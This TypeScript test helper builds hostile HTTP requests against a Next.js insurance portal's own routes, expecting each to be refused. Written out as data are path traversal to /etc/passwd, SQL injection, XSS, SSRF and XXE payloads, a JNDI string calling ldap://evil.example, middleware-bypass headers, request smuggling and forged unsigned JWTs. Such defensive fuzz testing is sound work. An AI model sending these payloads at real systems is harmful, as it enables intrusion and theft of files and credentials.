import { listRouteFiles } from "../routes";
import { utf8, type RawRequest } from "./send-raw";

/**
 * Malicious and malformed requests, each of which must be refused without an error or a change. They are built from
 * the files under `app`, so that new addresses are covered.
 *
 * @param session the session cookie of the customer who sends them ("name=value"), or null for a visitor
 */
export function listHostileRequests(session: string | null): RawRequest[] {
  const cookies: [string, string][] = session ? [["Cookie", session]] : [];
  return [
    ...buildMethodRequests(),
    ...buildPathRequests(),
    ...buildQueryRequests(),
    ...buildHeaderRequests(),
    ...buildBodyRequests(),
    ...buildActionRequests(),
    ...buildSessionRequests(),
  ].map((request) => ({
    ...request,
    headers: [...(hasHeader(request, "cookie") ? [] : cookies), ...(request.headers ?? [])],
  }));
}

const hasHeader = ({ headers = [] }: RawRequest, name: string) =>
  headers.some(([other]) => other.toLowerCase() === name);

/** Every address, with parameters that match nothing. */
export const listAddresses = () => listRouteFiles().map(({ address }) => address.replace(/\[(\.\.\.)?\w+\]/g, "none"));

function buildMethodRequests(): RawRequest[] {
  const methods = ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "PROPFIND", "TRACE"];
  return listAddresses().flatMap((path) =>
    methods.map((method) => ({ method, path, ...(method === "HEAD" || method === "TRACE" ? {} : { body: "" }) })),
  );
}

/** Path segments. One character is one byte. */
const SEGMENTS = [
  "%00",
  "%0d%0aX-Injected:%201",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "../../../../etc/passwd",
  "..%2f..%2f.env",
  "..;/",
  "....//",
  ".env",
  ".git/config",
  "package.json",
  "\\..\\..\\windows",
  "%5c..%5c",
  "C:\\",
  "con",
  "//evil.example",
  "/\\evil.example",
  "' OR '1'='1",
  '1;DROP TABLE "User"--',
  "1'%3BSELECT pg_sleep(9)--",
  "%27%20UNION%20SELECT%20%2A",
  "{{7*7}}",
  "${7*7}",
  "<script>alert(1)</script>",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "javascript:alert(1)",
  "__proto__",
  "constructor",
  "toString",
  "[object Object]",
  "null",
  "undefined",
  "NaN",
  "true",
  "0",
  "-1",
  "1e309",
  "1.5",
  "2147483648",
  "9223372036854775808",
  "99999999999999999999999999",
  "C-0",
  "C-00001",
  "C-9999999999",
  "C-1001%00",
  "c-1001",
  "HL-H-204817%20",
  "db79e775-81fd-4f2e-8741-9266e920cc32",
  "00000000-0000-0000-0000-000000000000",
  utf8("é"),
  utf8("‮txt.exe"),
  utf8("𝕏"),
  "%F0%9F%92%A9",
  "%EF%BF%BF",
  "%E2%80%AE",
  "a".repeat(4_000),
  "%41".repeat(1_500),
  "a/".repeat(500),
  ";a=b",
  "a;b;c",
  "*",
  "~",
  ".",
  "..",
  " ",
  "\t",
  "?",
  "??",
  "#",
  "&",
  "=",
  "+",
  ":",
  "@",
  "!",
  "$ACTION_ID",
  "[number]",
  "(list)",
  "_rsc",
  "index.html",
  "route.ts",
  "page",
  "layout",
];

function buildPathRequests(): RawRequest[] {
  const bases = [
    "/",
    "/portal/claims/",
    "/portal/policies/",
    "/sandbox/api/tickets/",
    "/sandbox/api/desk/tickets/",
    "/api/auth/",
    "/api/auth/callback/",
    "/_next/",
  ];
  const encode = (segment: string) => segment.replace(/[ \t]/g, (blank) => encodeURIComponent(blank));
  return [
    ...bases.flatMap((base) => SEGMENTS.map((segment) => ({ method: "GET", path: base + encode(segment) }))),
    ...[
      "http://evil.example/",
      "//evil.example/portal",
      "/portal//evil.example",
      "/./portal/../login",
      "/portal/%2e%2e/login",
      "/PORTAL",
      "/portal/",
      "*",
      "/api/auth/session/../../portal",
      "/_next/image?url=http://127.0.0.1:5432/&w=64&q=1",
      "/_next/image?url=%2Ficon.svg&w=64&q=75",
      "/_next/image?url=file:///etc/passwd&w=64&q=75",
      "/_next/data/x/portal.json",
      "/_next/static/../../package.json",
      "/_next/static/%2e%2e/%2e%2e/server/app/portal/page.js",
      "/__nextjs_original-stack-frames",
      "/_next/webpack-hmr",
    ].map((path) => ({ method: "GET", path })),
  ];
}

const VALUES = [
  "https://evil.example",
  "//evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "https:evil.example",
  "/%09/evil.example",
  "/%0d%0aX-Injected:1",
  "javascript:alert(1)",
  "data:text/html,x",
  "http://localhost@evil.example",
  "/portal%00",
  "%",
  "%ff",
  "%E0%A4%A",
  "a".repeat(3_000),
  "<script>alert(1)</script>",
  "' OR 1=1--",
  "-1",
  "1e999",
  "9999999999999999999",
  "0000-00-00",
  "+275760-09-13T00:00:00Z",
  "null",
  "[]",
  "{}",
  "__proto__",
];

function buildQueryRequests(): RawRequest[] {
  const names: [path: string, name: string][] = [
    ["/login", "callbackUrl"],
    ["/login", "error"],
    ["/login", "signed-out"],
    ["/portal", "_rsc"],
    ["/portal/claims/new", "policy"],
    ["/sandbox/api/messages", "since"],
    ["/sandbox/api/messages/stream", "since"],
    ["/sandbox/desk", "ticket"],
    ["/sandbox/chat", "config"],
    ["/api/auth/signin", "callbackUrl"],
    ["/api/auth/signout", "callbackUrl"],
    ["/api/auth/error", "error"],
    ["/api/auth/callback/credentials", "callbackUrl"],
    ["/api/auth/callback/oidc", "code"],
  ];
  return names.flatMap(([path, name]) => [
    ...VALUES.map((value) => ({
      method: "GET",
      path: `${path}?${name}=${value.replace(/[ <>"]/g, encodeURIComponent)}`,
    })),
    { method: "GET", path: `${path}?${name}=a&${name}=b&${name}[]=c&${name}[x]=d` },
    { method: "GET", path: `${path}?${`${name}=x&`.repeat(300)}` },
    { method: "GET", path: `${path}?__proto__[polluted]=1&constructor.prototype.x=1&${name}` },
  ]);
}

const HEADERS: [string, string][][] = [
  [["X-Forwarded-Host", "evil.example"]],
  [["X-Forwarded-Proto", "javascript"]],
  [["X-Forwarded-For", "' OR 1=1--"]],
  [["X-Forwarded-Port", "99999999"]],
  [["Forwarded", 'for="_evil";host=evil.example']],
  [["X-Original-URL", "/portal"]],
  [["X-Rewrite-URL", "/sandbox/desk"]],
  [["X-HTTP-Method-Override", "DELETE"]],
  [["X-Middleware-Subrequest", "proxy:proxy:proxy:proxy:proxy"]],
  [["X-Middleware-Subrequest", "middleware"]],
  [["X-Middleware-Rewrite", "http://127.0.0.1:1/"]],
  [["X-Middleware-Next", "1"]],
  [
    ["X-Middleware-Override-Headers", "cookie"],
    ["X-Middleware-Request-Cookie", "a=b"],
  ],
  [
    ["X-Invoke-Path", "/portal"],
    ["X-Invoke-Status", "500"],
    ["X-Invoke-Error", "{}"],
  ],
  [["X-Matched-Path", "/portal"]],
  [["X-Now-Route-Matches", "1=../../x"]],
  [["X-Nextjs-Data", "1"]],
  [["X-Prerender-Revalidate", "1"]],
  [["RSC", "1"]],
  [
    ["RSC", "1"],
    ["Next-Router-State-Tree", "%"],
  ],
  [
    ["RSC", "1"],
    ["Next-Router-State-Tree", "%5B%22%22%2C%7B%7D%5D"],
  ],
  [
    ["RSC", "1"],
    ["Next-Router-State-Tree", "[".repeat(2_000)],
  ],
  [
    ["RSC", "1"],
    ["Next-Router-Prefetch", "1"],
    ["Next-Router-Segment-Prefetch", "/../../x"],
  ],
  [["Next-Url", "//evil.example"]],
  [["Next-HMR-Refresh", "1"]],
  [
    ["Content-Security-Policy", "script-src 'nonce-evil'"],
    ["X-Nonce", "evil"],
  ],
  [["X-Nonce", '"><script>alert(1)</script>']],
  [["X-Request-Id", 'a"},{"level":"fatal']],
  [["X-Request-Id", "x".repeat(5_000)]],
  [["Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."]],
  [["Authorization", "Basic Og=="]],
  [["Authorization", "Bearer"]],
  [["Origin", "https://evil.example"]],
  [["Origin", "null"]],
  [["Origin", "http://localhost.evil.example"]],
  [["Sec-Fetch-Site", "cross-site"]],
  [["Sec-Fetch-Site", "same-site"]],
  [["Referer", "https://evil.example/"]],
  [["Host", "evil.example"]],
  [["Host", "evil.example:99999"]],
  [["Host", "[::1"]],
  [["Host", ""]],
  [["Accept", "*/*, ".repeat(500)]],
  [["Accept-Language", "'; DROP TABLE x"]],
  [["Accept-Encoding", "x-evil;q=9"]],
  [["Range", "bytes=0-99999999999999999999"]],
  [["Range", "bytes=5-1,-0,a-b"]],
  [["If-None-Match", "*"]],
  [["If-Modified-Since", "never"]],
  [["Expect", "100-continue"]],
  [["Upgrade", "h2c"]],
  [["TE", "trailers"]],
  [["Transfer-Encoding", "gzip, chunked"]],
  [["Content-Length", "5"]],
  [["Content-Length", "-1"]],
  [
    ["Content-Length", "1"],
    ["Transfer-Encoding", "chunked"],
  ],
  [["Cookie", "a".repeat(6_000)]],
  [["User-Agent", `${"x".repeat(2_000)}\u0001`]],
  [["User-Agent", "${jndi:ldap://evil.example/a}"]],
  [
    ["X-Glassix-Api-Key", "%"],
    ["X-Glassix-Unique-Identifier", "%00"],
    ["Authorization", "Bearer a.b.c"],
  ],
  [["X-Glassix-Unique-Identifier", "db79e775-81fd-4f2e-8741-9266e920cc32"]],
  [["x".repeat(3_000), "y"]],
  [["A", "b".repeat(15_000)]],
];

function buildHeaderRequests(): RawRequest[] {
  const targets = [
    ["GET", "/"],
    ["GET", "/portal"],
    ["GET", "/login"],
    ["GET", "/api/auth/session"],
    ["POST", "/api/glassix-identity"],
    ["GET", "/sandbox/api/messages"],
    ["GET", "/api/health"],
  ] as const;
  return targets.flatMap(([method, path]) =>
    HEADERS.map((headers) => ({
      method,
      path,
      headers,
      isCutOff: headers.some(([name]) => /length|encoding/i.test(name)),
    })),
  );
}

const JSON_TYPE: [string, string] = ["Content-Type", "application/json"];
const BODIES: Pick<RawRequest, "body" | "headers" | "isCutOff">[] = [
  ...[
    "",
    "{",
    "nul",
    "null",
    "true",
    "0",
    '"text"',
    "[]",
    "{}",
    "[[[[[]]]]]",
    '{"a":1e999}',
    `${"[".repeat(10_000)}${"]".repeat(10_000)}`,
    `{"text":"${"a".repeat(50_000)}"}`,
    '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}',
    '{"clientId":1,"text":2}',
    '{"clientId":"x","text":"y"}',
    '{"clientId":"00000000-0000-4000-8000-000000000000","text":""}',
    '{"clientId":"00000000-0000-4000-8000-000000000000","text":{"$ne":null}}',
    '{"clientId":"00000000-0000-4000-8000-000000000000","text":["a"]}',
    '{"clientId":"00000000-0000-4000-8000-000000000000","text":"a","source":"\\u0000"}',
    '{"email":"john.wick@example.com","uniqueIdentifier":"db79e775-81fd-4f2e-8741-9266e920cc32","userId":1}',
    '{"ticketId":2147483648}',
    '{"ticketId":-1,"isTyping":"yes"}',
    '{"seen":9e99}',
    '{"state":"Closed; DROP TABLE"}',
    '{"password":null}',
    '{"password":{"length":16}}',
    '{"token":[]}',
    '{"token":"eyJhbGciOiJub25lIn0.e30."}',
    '{"clock":"x","delivery":{}}',
    '{"settings":"__proto__"}',
    "\u0000",
    "\ufeff{}",
    '{"a":"\\ud800"}',
  ].map((body) => ({ body: Buffer.from(body), headers: [JSON_TYPE] })),
  { body: Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28]), headers: [JSON_TYPE] },
  {
    body: "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    headers: [["Content-Type", "application/xml"]],
  },
  { body: "a=b&a[]=c&__proto__=d", headers: [["Content-Type", "application/x-www-form-urlencoded"]] },
  {
    body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1',
    headers: [["Content-Type", "multipart/form-data; boundary=x"]],
  },
  { body: "no boundary", headers: [["Content-Type", "multipart/form-data"]] },
  { body: "{}", headers: [["Content-Type", "application/json; charset=utf-7"]] },
  { body: "{}", headers: [["Content-Type", '"><script>']] },
  { body: "{}", headers: [JSON_TYPE, ["Content-Encoding", "gzip"]] },
  { body: "zz\r\n{}\r\n0\r\n\r\n", headers: [JSON_TYPE, ["Transfer-Encoding", "chunked"]], isCutOff: true },
  { body: '{"a":', headers: [JSON_TYPE, ["Content-Length", "5000"]], isCutOff: true },
];

function buildBodyRequests(): RawRequest[] {
  const targets: [string, string][] = [
    ["POST", "/api/glassix-identity"],
    ["POST", "/api/auth/callback/credentials"],
    ["POST", "/api/auth/signout"],
    ["POST", "/api/auth/_log"],
    ["POST", "/sandbox/api/messages"],
    ["POST", "/sandbox/api/presence"],
    ["POST", "/sandbox/api/connect"],
    ["PUT", "/sandbox/api/settings"],
    ["POST", "/sandbox/api/inspect"],
    ["POST", "/sandbox/api/build"],
    ["POST", "/sandbox/api/desk/open"],
    ["PATCH", "/sandbox/api/desk/tickets/1"],
    ["POST", "/sandbox/api/desk/tickets/1/messages"],
    ["POST", "/login"],
  ];
  return targets.flatMap(([method, path]) => BODIES.map((body) => ({ method, path, ...body })));
}

const MULTIPART: [string, string] = ["Content-Type", "multipart/form-data; boundary=x"];
const part = (name: string, value: string) =>
  `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
/** Requests for server actions that do not exist. */
function buildActionRequests(): RawRequest[] {
  return [
    ...["", "x", "0".repeat(42), "f".repeat(42), "__proto__", "constructor", "../../x", "%", "a".repeat(5_000)].flatMap(
      (id) =>
        ["/", "/login", "/portal", "/nowhere", "/api/health"].map((path) => ({
          method: "POST",
          path,
          headers: [
            ["Next-Action", id],
            ["Content-Type", "text/plain"],
          ] as [string, string][],
          body: "[]",
        })),
    ),
    // The way a form without JavaScript names its action.
    ...[
      "$ACTION_ID_",
      "$ACTION_ID_x",
      `$ACTION_ID_${"0".repeat(42)}`,
      "$ACTION_REF_",
      "$ACTION_REF_1",
      "$ACTION_1:0",
      "$ACTION_KEY",
    ].flatMap((name) =>
      ["/login", "/register", "/portal/account", "/portal/claims/new"].map((path) => ({
        method: "POST",
        path,
        headers: [MULTIPART],
        body: `${part(name, '{"id":"x","bound":"$@1"}')}${part("$ACTION_1:1", "[")}--x--`,
      })),
    ),
  ];
}

/** Requests with forged sessions. */
function buildSessionRequests(): RawRequest[] {
  const name = "next-auth.session-token";
  const jwe = "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0";
  const values = [
    "",
    "x",
    "null",
    "a.b.c",
    "a.b.c.d.e",
    `${jwe}....`,
    `${jwe}..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA`,
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJkYjc5ZTc3NSJ9.",
    "%",
    "%00",
    '"',
    "{}",
    "a".repeat(7_000),
  ];
  const paths: [string, string][] = [
    ["GET", "/portal"],
    ["GET", "/portal/claims/C-1001"],
    ["GET", "/login"],
    ["GET", "/api/auth/session"],
    ["POST", "/api/glassix-identity"],
  ];
  return paths.flatMap(([method, path]) => [
    ...values.map((value) => ({ method, path, headers: [["Cookie", `${name}=${value}`]] as [string, string][] })),
    { method, path, headers: [["Cookie", `${name}.0=a; ${name}.1=b; ${name}.99999999=c; ${name}.-1=d; ${name}.x=e`]] },
    { method, path, headers: [["Cookie", `__Secure-${name}=x; ${name}=y; ${name}=z`]] },
    { method, path, headers: [["Cookie", `sandbox_visitor=%00; sandbox_desk=x; sandbox_settings={`]] },
  ]);
}
